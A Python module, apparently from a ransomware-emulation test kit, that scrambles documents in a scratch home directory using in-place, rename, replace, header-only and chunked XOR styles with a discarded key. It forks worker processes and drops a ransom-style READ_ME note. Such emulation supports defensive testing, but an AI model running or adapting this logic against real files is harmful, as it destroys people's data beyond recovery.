"""Makes the documents of the scratch home unreadable, in the styles ransomware has."""

import hashlib
import os
import zlib
from pathlib import Path

from .kit import Task, begin


def xor(content: bytes, key: bytes) -> bytes:
    """The content under a repeated key: reversible, and enough to look encrypted."""
    stream = (key * (len(content) // len(key) + 1))[: len(content)]
    return (int.from_bytes(content, "big") ^ int.from_bytes(stream, "big")).to_bytes(len(content), "big")


def spoil(task: Task, path: Path, key: bytes) -> None:
    """One document, in the style that the parameters name."""
    content = path.read_bytes()
    ending = str(task.options.get("ending", ".locked"))
    match task.options.get("style", "in-place"):
        case "in-place":
            task.write(path, xor(content, key))
        case "rename":
            task.write(path, xor(content, key))
            path.rename(path.with_name(path.name + ending))
        case "replace":
            task.write(path.with_name(path.name + ending), xor(zlib.compress(content), key))
            path.unlink()
        case "head":
            with path.open("r+b") as document:
                document.write(xor(content[:4096], key))
        case "chunks":
            with path.open("r+b") as document:
                for start in range(0, len(content), 4096):
                    document.seek(start)
                    document.write(xor(content[start : start + 4096], key))


def run(task: Task) -> None:
    """Document after document; several processes share them if the parameters say so."""
    key = hashlib.sha256(str(task.dice.random()).encode()).digest()
    documents = task.files()
    workers = min(int(task.options.get("workers", 1)), 4)
    rank = 0
    children: list[int] = []
    while rank == 0 and len(children) + 1 < workers:
        if child := os.fork():
            children.append(child)
        else:
            rank, children = len(children) + 1, []
    mine = documents[rank::workers]
    for _, path in zip(task.rounds(), mine, strict=False):
        spoil(task, path, key)
    if task.options.get("note", True) and rank == 0:
        task.write(task.home / "Documents" / "READ_ME.txt", b"Your documents are no longer readable.\n" * 8)
    for child in children:
        os.waitpid(child, 0)


if __name__ == "__main__":
    run(begin())
